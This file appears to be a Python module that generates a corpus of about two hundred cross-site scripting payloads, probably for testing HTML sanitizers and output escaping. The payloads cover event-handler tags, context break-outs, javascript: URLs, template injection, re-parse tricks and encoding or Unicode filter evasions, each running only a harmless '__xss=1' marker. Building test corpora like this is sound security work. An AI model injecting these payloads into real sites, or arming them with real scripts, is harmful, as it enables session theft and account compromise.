"""Two hundred texts that would run something, were they ever read as more than text.

Made from the families that are known: tags with events, ways out of where a text stands, addresses,
templates, markup that changes meaning when it is parsed again, and letters that are not what they
seem. Short, so that they fit the shortest field.
"""

from itertools import product

RUN = "__xss=1"

_EVENTS = (
    ("img src=x", ("onerror", "onloadstart", "onmouseover")),
    ("svg", ("onload", "onclick", "onfocusin")),
    ("body", ("onload", "onpageshow", "onhashchange")),
    ("input autofocus", ("onfocus", "onblur", "oninput")),
    ("details open", ("ontoggle", "onclick", "onfocus")),
    ("video src=x", ("onerror", "onloadstart", "onplay")),
    ("audio src=x", ("onerror", "onstalled", "onabort")),
    ("marquee", ("onstart", "onbounce", "onfinish")),
    ("a href=#", ("onclick", "onmouseenter", "onpointerover")),
    ("b tabindex=0", ("onfocus", "onmouseover", "onwheel")),
    ("select autofocus", ("onfocus", "onchange", "onkeydown")),
    ("x style=animation:a", ("onanimationend", "onanimationstart", "onclick")),
)
# How a tag may be written so that a filter overlooks it and a browser does not.
_WRITTEN = (
    "<{tag} {event}={run}>",
    "<{tag}\t{event}='{run}'>",
    "<{tag}/{event}=`{run}`",
)
_OUT_OF = (
    '"><script>{run}</script>',
    "'><script>{run}</script>",
    "</script><script>{run}</script>",
    "</title><script>{run}</script>",
    "</textarea><script>{run}</script>",
    "</style><script>{run}</script>",
    "--><script>{run}</script>",
    "]]><script>{run}</script>",
    "';{run};//",
    '";{run};//',
    "`;{run};//",
    "\\';{run};//",
    '" onmouseover={run} x="',
    "' onfocus={run} autofocus x='",
    '" style=x:expression({run}) "',
    "</option></select><img src onerror={run}>",
    "\u2028{run}//",
    "*/{run}/*",
)
_ADDRESSES = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    "java\tscript:{run}",
    "java\nscript:{run}",
    " javascript:{run}",
    "\x01javascript:{run}",
    "javascript&colon;{run}",
    "&#106;avascript:{run}",
    "javascript://%0a{run}",
    "vbscript:{run}",
    "data:text/html,<script>{run}</script>",
    "<a href=javascript:{run}>x</a>",
    "<iframe src=javascript:{run}>",
    "<form action=javascript:{run}>",
    "<object data=javascript:{run}>",
    "<embed src=javascript:{run}>",
    "<base href=javascript:{run}//>",
    "[x](javascript:{run})",
    "![x](javascript:{run})",
    "<javascript:{run}>",
)
_TEMPLATES = (
    "${{{run}}}",
    "{{{{constructor.constructor('{run}')()}}}}",
    "{{{{'{run}'|safe}}}}",
    "{{% include '{run}' %}}",
    "{{% autoescape off %}}<b onclick={run}>",
    "<%= {run} %>",
    "#{{{run}}}",
    "#set($x='{run}')",
    "{{{{{{{run}}}}}}}",
    "<template><script>{run}</script>",
)
_PARSED_AGAIN = (
    "<script>{run}</script>",
    "<ScRiPt>{run}</sCrIpT>",
    "<script >{run}</script >",
    "<scr<script>ipt>{run}</script>",
    "<script/x>{run}</script>",
    "<script src=data:,{run}></script>",
    "<script type=module>{run}</script>",
    "<svg><script>{run}</script>",
    "<svg><a xlink:href=javascript:{run}>x",
    "<svg><animate onbegin={run} dur=1s>",
    "<svg><set onbegin={run}>",
    "<svg><use href=data:,{run}>",
    "<svg><style><img src onerror={run}>",
    "<math><style><img src onerror={run}>",
    "<math href=javascript:{run}>x",
    "<noscript><p title='</noscript><img src onerror={run}>'>",
    "<!--><img src onerror={run}>-->",
    "<![CDATA[><img src onerror={run}>]]>",
    "<?xml ?><img src onerror={run}>",
    "<iframe srcdoc='<script>parent.{run}</script>'>",
    "<table><td background=javascript:{run}>",
    "<link rel=stylesheet href=data:,{run}>",
    "<meta http-equiv=refresh content=0;javascript:{run}>",
    "<style>@import 'javascript:{run}'</style>",
    "<xmp><p title='</xmp><img src onerror={run}>'>",
    "<p title='</p><img src onerror={run}>",
)
_ENCODED = (
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;script&#62;{run}&#60;/script&#62;",
    "&#x3c;script&#x3e;{run}&#x3c;/script&#x3e;",
    "%3Cscript%3E{run}%3C/script%3E",
    "%253Cscript%253E{run}",
    "\\u003cscript\\u003e{run}",
    "\\x3cscript\\x3e{run}",
    "+ADw-script+AD4-{run}",
    "\uff1cscript\uff1e{run}\uff1c/script\uff1e",
    "\u02bascript\u02ba{run}",
    "\u202e<b onclick={run}>\u2066",
    "\u200b<\u200bscript>{run}",
    "\ufeff<script>{run}</script>",
    "<\u017fcript>{run}</\u017fcript>",
    "\U0001f4a5<img src onerror={run}>",
    "a\u0300<img src onerror={run}>",
    "<img src onerror=&#95;&#95;xss&#61;1>",
    "<img src onerror=\\u005f_xss=1>",
)

_TAGS = (
    written.format(tag=tag, event=event, run=RUN)
    for (tag, events), written in product(_EVENTS, _WRITTEN)
    for event in events
)
_OTHERS = (*_OUT_OF, *_ADDRESSES, *_TEMPLATES, *_PARSED_AGAIN, *_ENCODED)
PAYLOADS = tuple(dict.fromkeys([*_TAGS, *(text.format(run=RUN) for text in _OTHERS)]))


def together(count: int) -> list[list[str]]:
    """All of them in groups of so many."""
    return [list(PAYLOADS[start : start + count]) for start in range(0, len(PAYLOADS), count)]
